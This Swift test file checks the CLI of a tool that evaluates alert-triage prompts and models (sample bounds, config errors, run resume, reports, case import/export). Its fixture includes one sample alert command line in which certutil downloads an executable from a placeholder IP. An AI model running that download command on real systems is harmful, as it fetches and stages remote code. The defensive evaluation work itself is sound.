import Foundation
import StubTestSupport
import Testing
import TriageEvalStore

/// Issue 11 (B14, B15, A8, D22) through the binary, in a project of this file's own (no bundled cases or prompts).
@Suite(.boundedResources) struct RunSemanticsCommandTests {
    static let cases = """
        - id: cert-01
          label: TP
          scenario: certutil
          tags: [must-alert]
          entity: {type: host, name: WS-1}
          alert_count: 3
          time_window_minutes: 2
          max_risk_score: 73
          rules: ["Suspicious CertUtil Commands"]
          command_lines: ['certutil.exe -urlcache -split -f http://203.0.113.9/p.exe p.exe']
        - id: sccm-01
          label: FP
          scenario: SCCM
          entity: {type: host, name: SRV-1}
          alert_count: 2
          time_window_minutes: 1
          max_risk_score: 21
          rules: ["Suspicious PowerShell Execution"]
          command_lines: ['powershell.exe -File C:\\Windows\\CCM\\SystemTemp\\b.ps1']
        """

    static let prompt = """
        ---
        id: host-triage
        version: v1
        entity: host
        output:
          format: dissect
          pattern: "verdict=%{verdict} confidence=%{confidence} summary=%{summary}"
          verdicts: [TP, FP, SUSPICIOUS]
        decision:
          alert_verdicts: [TP, SUSPICIOUS]
          min_confidence: 0.7
        ---
        Host {{host_name}} ran: {{cmdlines_str}}. Answer: verdict=<TP|FP|SUSPICIOUS> confidence=<0.0-1.0> summary=<reason>

        """

    static let config = """
        models:
          - id: heuristic
            provider: heuristic
          - id: recorded
            provider: replay
            path: answers.jsonl
            max_retries: 0
        """

    /// A project with two cases, one prompt, the heuristic model and a replay model answering only `cert-01`.
    static func project(cases: String = cases) throws -> URL {
        let directory = Scratch.url("triage-eval-runsem")
        let manager = FileManager.default
        try manager.createDirectory(at: directory.appendingPathComponent("cases"), withIntermediateDirectories: true)
        try manager.createDirectory(at: directory.appendingPathComponent("prompts/host-triage"), withIntermediateDirectories: true)
        try cases.write(to: directory.appendingPathComponent("cases/hosts.yaml"), atomically: true, encoding: .utf8)
        try prompt.write(to: directory.appendingPathComponent("prompts/host-triage/v1.prompt"), atomically: true, encoding: .utf8)
        try config.write(to: directory.appendingPathComponent("triage-eval.yaml"), atomically: true, encoding: .utf8)
        try #"{"case_id": "cert-01", "sample": 0, "response": "verdict=TP confidence=0.9 summary=download and run"}"#
            .appending("\n").write(to: directory.appendingPathComponent("answers.jsonl"), atomically: true, encoding: .utf8)
        return directory
    }

    @Test("B14: --samples beyond 1,000 exits 2 naming the option, before any run row exists")
    func samplesBound() async throws {
        let directory = try Self.project()
        let output = try await CLI.run(["run", "--samples", "100000000", "--model", "heuristic"], in: directory)
        #expect(output.status == 2)
        #expect(output.stderr.contains("--samples must be from 1 to 1000, got 100000000"))
        let runs = try await CLI.run(["runs", "list"], in: directory)
        #expect(runs.stdout.hasPrefix("no runs yet"))
    }

    @Test("B14: a config value out of range exits 2 naming the file given with --config and the field")
    func configBound() async throws {
        let directory = try Self.project()
        try FileManager.default.createDirectory(at: directory.appendingPathComponent("alt"), withIntermediateDirectories: true)
        try (Self.config + "\ndecision: {min_confidence: 7}\n").write(to: directory.appendingPathComponent("alt/other.yaml"), atomically: true, encoding: .utf8)
        let output = try await CLI.run(["run", "--config", "alt/other.yaml"], in: directory)
        #expect(output.status == 2)
        #expect(output.stderr.hasPrefix("error: alt/other.yaml:"))
        #expect(output.stderr.contains("decision.min_confidence: must lie in [0, 1]"))
    }

    @Test("D22: report --run of an older run leaves latest.* to the latest run; runs list names prompts and models; 1 evaluation")
    func latestReportsAndRunsList() async throws {
        let directory = try Self.project()
        let first = try await CLI.run(["run", "--model", "heuristic", "--case", "cert-01"], in: directory)
        #expect(first.status == 0, "\(first.stderr)")
        #expect(first.stdout.contains("run 1: 1 evaluation, "), "\(first.stdout)")
        #expect(try await CLI.run(["run", "--model", "heuristic", "--quiet"], in: directory).status == 0)
        let report = try await CLI.run(["report", "--run", "1"], in: directory)
        #expect(report.status == 0)
        #expect(report.stdout.split(separator: "\n").map(String.init) == ["reports/run-1.md", "reports/run-1.json"])
        let latest = try String(contentsOf: directory.appendingPathComponent("reports/latest.md"), encoding: .utf8)
        #expect(latest.hasPrefix("# triage-eval run 2"))

        let runs = try await CLI.run(["runs", "list"], in: directory)
        let header = try #require(runs.stdout.split(separator: "\n").first)
        #expect(header.contains("prompts") && header.contains("models"))
        #expect(runs.stdout.contains("host-triage@v1"))
        #expect(runs.stdout.contains("heuristic"))
    }

    @Test("A8 and D22: --resume after params changed exits 2 naming the change; a resumed old run leaves latest.* alone")
    func resumeRefusesChangedModel() async throws {
        let directory = try Self.project()
        let first = try await CLI.run(["run", "--model", "recorded", "--quiet"], in: directory)
        #expect(first.status == 3, "\(first.stderr)")
        #expect(try await CLI.run(["run", "--model", "heuristic", "--quiet"], in: directory).status == 0)

        let resumed = try await CLI.run(["run", "--resume", "1", "--quiet"], in: directory)
        #expect(resumed.status == 3)
        let latest = try String(contentsOf: directory.appendingPathComponent("reports/latest.md"), encoding: .utf8)
        #expect(latest.hasPrefix("# triage-eval run 2"))

        let changed = Self.config.replacingOccurrences(of: "    max_retries: 0", with: "    max_retries: 0\n    params: {temperature: 0.2}")
        try changed.write(to: directory.appendingPathComponent("triage-eval.yaml"), atomically: true, encoding: .utf8)
        let refused = try await CLI.run(["run", "--resume", "1"], in: directory)
        #expect(refused.status == 2)
        #expect(refused.stderr.contains("models[recorded]: changed since run 1 started (params.temperature unset → \"0.2\")"), "\(refused.stderr)")
    }

    @Test("B15: cases export --format jsonl imports into another project, which lists and plans those cases")
    func jsonlExportImports() async throws {
        let source = try Self.project()
        let exported = try await CLI.run(["cases", "export", "--format", "jsonl"], in: source)
        #expect(exported.status == 0)
        let target = try Self.project(cases: "[]\n")
        let file = target.appendingPathComponent("../runsem-\(UUID().uuidString).jsonl").standardizedFileURL
        try exported.stdout.write(to: file, atomically: true, encoding: .utf8)
        defer { try? FileManager.default.removeItem(at: file) }
        let imported = try await CLI.run(["cases", "import", file.path], in: target)
        #expect(imported.status == 0, "\(imported.stderr)")
        #expect(imported.stdout.hasPrefix("2 cases: 2 added"))
        let list = try await CLI.run(["cases", "list", "--scenario", "sccm"], in: target)
        #expect(list.stdout.contains("sccm-01"))
        #expect(!list.stdout.contains("cert-01"))
        let unknown = try await CLI.run(["cases", "list", "--scenario", "lsass"], in: target)
        #expect(unknown.status == 2)
        #expect(unknown.stderr.contains("no case has scenario \"lsass\"; scenarios: SCCM, certutil"))
        let run = try await CLI.run(["run", "--model", "heuristic", "--quiet"], in: target)
        #expect(run.status == 0, "\(run.stderr)")
        #expect(try await CLI.run(["render", "--prompt", "host-triage@v1", "--case", "cert-01"], in: target).stdout.contains("WS-1"))

        let removed = try await CLI.run(["cases", "remove", "cert-01"], in: target)
        #expect(removed.status == 0)
        #expect(!(try await CLI.run(["cases", "list"], in: target)).stdout.contains("cert-01"))
    }

    @Test("D22: import-rule --help lists --version once; a rule dropping nothing says nothing about dropping; prompts remove")
    func importRuleHelpAndRemove() async throws {
        let directory = try Self.project()
        let output = try await CLI.run(["prompts", "import-rule", "--help"], in: directory)
        let help = output.stdout + output.stderr
        #expect(help.components(separatedBy: "--version").count - 1 == 1, "only the tool's own flag: \(help)")
        #expect(help.contains("--prompt-version <V>"))

        let rule = try TestFixtures.path("rules/failing/tail-fails.toml")
        let imported = try await CLI.run(["prompts", "import-rule", rule, "--id", "tail"], in: directory)
        #expect(imported.status == 0, "\(imported.stderr)")
        #expect(imported.stdout.contains("judges 2 of 2 host cases"))
        #expect(!imported.stdout.contains("drops"))

        let removed = try await CLI.run(["prompts", "remove", "tail@v1"], in: directory)
        #expect(removed.status == 0, "\(removed.stderr)")
        #expect(!(try await CLI.run(["prompts", "list"], in: directory)).stdout.contains("tail@v1"))
        let file = try await CLI.run(["prompts", "remove", "host-triage@v1"], in: directory)
        #expect(file.status == 2)
        #expect(file.stderr.contains("delete the file"))
    }
}
